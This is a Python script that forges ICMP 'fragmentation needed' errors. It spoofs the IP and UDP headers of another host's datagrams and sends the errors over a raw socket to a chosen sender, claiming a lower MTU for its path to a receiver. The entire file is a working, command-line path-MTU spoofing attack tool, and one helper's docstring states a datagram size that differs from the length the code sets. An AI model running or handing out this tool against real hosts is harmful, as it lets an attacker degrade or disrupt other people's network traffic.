"""Forged ICMP errors: "fragmentation needed", about UDP datagrams that another host sent. A plain program; needs root and no other file.

    forged_icmp.py SENDER RECEIVER PORT MTU COUNT    errors to SENDER, as if a router could not forward its datagrams to RECEIVER

The errors quote the IP and UDP headers of such a datagram, as an attacker can who knows addresses and ports.
"""

import ipaddress
import socket
import struct
import sys
import time

PAUSE_S = 0.01


def checksum(data):
    """Returns the checksum of the Internet (RFC 1071)."""
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def quoted(sender, receiver, port):
    """Returns the headers of a datagram of 1,452 bytes with Don't Fragment."""
    addresses = ipaddress.ip_address(sender).packed + ipaddress.ip_address(receiver).packed
    head = struct.pack("!BBHHHBBH", 0x45, 0, 1480, 1, 0x4000, 64, socket.IPPROTO_UDP, 0)
    head = head[:10] + struct.pack("!H", checksum(head + addresses)) + addresses
    return head + struct.pack("!HHHH", port, port, 1460, 0)


def error(mtu, quote):
    """Returns the ICMP message: type 3, code 4, and the MTU of the next hop (RFC 1191)."""
    body = struct.pack("!HH", 0, mtu) + quote
    return struct.pack("!BBH", 3, 4, checksum(b"\x03\x04\x00\x00" + body)) + body


def main():
    sender, receiver, port, mtu, count = sys.argv[1:3] + [int(word) for word in sys.argv[3:6]]
    message = error(mtu, quoted(sender, receiver, port))
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as raw:
        for _ in range(count):
            raw.sendto(message, (sender, 0))
            time.sleep(PAUSE_S)


if __name__ == "__main__":
    main()
